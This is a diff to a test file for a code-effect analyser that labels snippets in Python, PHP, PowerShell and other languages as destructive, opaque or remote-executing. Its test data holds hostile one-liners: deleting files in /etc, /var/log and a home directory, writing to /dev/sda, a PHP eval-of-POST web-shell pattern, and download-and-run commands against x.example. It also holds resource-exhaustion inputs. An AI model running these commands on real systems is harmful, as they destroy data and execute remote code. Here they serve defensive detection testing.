@@ -36,7 +36,11 @@ def read(language: str, text: str, *args: str) -> tuple[list[str], list[str], bo
         ("from pathlib import Path\n(Path('/etc') / 'hosts').write_text('')", ["overwrite:system:light"], []),
         ("import glob, os\n[os.remove(f) for f in glob.glob('/var/log/*.log')]", ["delete:system"], []),
         ("import os\nfor f in os.listdir('/etc'):\n  os.remove(os.path.join('/etc', f))", ["delete:system"], []),
-        ("import os\nfor r, d, fs in os.walk('/home/me'):\n  for f in fs: os.remove(os.path.join(r, f))", ["delete:home"], []),
+        (
+            "import os\nfor r, d, fs in os.walk('/home/me'):\n  for f in fs: os.remove(os.path.join(r, f))",
+            ["delete:home"],
+            [],
+        ),
         ("open('/etc/hosts', 'w').write('')", ["overwrite:system:light"], []),
         ("with open('/etc/hosts', mode='a') as f: f.write('x')", ["write:system:light"], []),
         ("open('/dev/sda', 'wb').write(b'0')", ["device:system"], []),
@@ -200,9 +204,41 @@ def test_other_languages(language: str, text: str, effects: list[str], shell: li
         ("node", "eval(process.argv[1])", ["run-opaque:unknown"]),
         ("php", "eval(base64_decode($_POST['x']));", ["run-opaque:unknown"]),
         ("php", "eval(file_get_contents('http://x.example'));", ["run-remote:remote"]),
-        ("pwsh", "iwr http://x.example | iex", ["run-remote:remote"]),
+        ("pwsh", "iwr http://x.example | iex", ["run-remote:unknown"]),
         ("cobol", "DISPLAY 'x'", []),
     ],
 )
 def test_computed_code(language: str, text: str, effects: list[str]) -> None:
     assert read(language, text)[0] == effects
+
+
+@pytest.mark.parametrize("language", ["node", "ruby", "perl", "php", "awk", "lua"])
+@pytest.mark.parametrize("text", ["a=b " * 16_000, "exec(" * 13_000])
+def test_long_texts_end(language: str, text: str) -> None:
+    """Calls and assignments are counted: what is left when the count ends is not understood."""
+    assert read(language, text)[2] is False
+
+
+@pytest.mark.parametrize("text", ["'" * 65_001, '"\\' * 30_000, "`" * 60_001, "q{" * 30_000, "/*" * 30_000])
+@pytest.mark.parametrize("language", ["node", "ruby", "perl"])
+def test_open_quotes_do_nothing(language: str, text: str) -> None:
+    assert read(language, text)[0] == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x" + ".a()" * 9_000,
+        "-" * 60_000 + "1",
+        "x = 0x" + "f" * 60_000 + "\nprint(f'{x}')",
+        "a = 'x' * 60_000\nb = a.replace('x', a)\nprint(a.join(a))",
+        "print('%1000000000d' % 1, '{:>1000000000}'.format(1))",
+        "def f(x):\n f(x); f(x); f(x)\nf(1)",
+        "print({a: b for a in c})",
+        "x = y[::2]; z = x[1:y]; w = 'a'[9]",
+    ],
+)
+def test_hostile_python_does_nothing(text: str) -> None:
+    """No value is computed that is much larger than the text, and nothing is raised."""
+    effects, shell, _ = read("python", text)
+    assert (effects, shell) == ([], [])
